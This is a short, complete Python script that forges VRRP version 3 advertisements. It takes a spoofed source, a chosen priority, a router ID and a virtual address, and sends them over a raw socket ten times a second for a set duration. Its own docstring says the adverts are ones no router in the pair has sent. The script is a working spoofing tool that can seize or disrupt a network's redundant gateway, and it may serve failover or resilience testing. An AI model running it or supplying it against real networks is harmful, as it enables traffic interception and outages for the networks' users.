"""Sends VRRP adverts that no node of the pair has sent, ten a second, and prints how many it has.

usage: adverts.py SOURCE DESTINATION PRIORITY ROUTER_ID ADDRESS SECONDS
"""

from __future__ import annotations

import ipaddress
import socket
import struct
import sys
import time

VRRP = 112
# Version 3, advertisement (RFC 9568, section 5.2).
VERSION_AND_TYPE = 0x31
HEADER_AND_TTL = 0x45, 255
PAUSE_SECONDS = 0.1
ADVERT_CENTISECONDS = 100


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def advert(source: bytes, destination: bytes, priority: int, router_id: int, address: bytes) -> bytes:
    head = struct.pack("!BBBBH", VERSION_AND_TYPE, router_id, priority, 1, ADVERT_CENTISECONDS)
    length = len(head) + 2 + len(address)
    pseudo_header = source + destination + struct.pack("!BBH", 0, VRRP, length)
    return head + struct.pack("!H", checksum(pseudo_header + head + bytes(2) + address)) + address


def packet(source: bytes, destination: bytes, payload: bytes) -> bytes:
    """The kernel fills in the length, the identification and the checksum."""
    version, ttl = HEADER_AND_TTL
    return struct.pack("!BBHHHBBH4s4s", version, 0, 0, 0, 0, ttl, VRRP, 0, source, destination) + payload


def main(source: str, destination: str, priority: str, router_id: str, address: str, seconds: str) -> None:
    ends = (ipaddress.IPv4Address(source).packed, ipaddress.IPv4Address(destination).packed)
    forged = advert(*ends, int(priority), int(router_id), ipaddress.IPv4Address(address).packed)
    deadline = time.monotonic() + float(seconds)
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while time.monotonic() < deadline:
            raw.sendto(packet(*ends, forged), (destination, 0))
            sent += 1
            time.sleep(PAUSE_SECONDS)
    print(sent)


main(*sys.argv[1:])
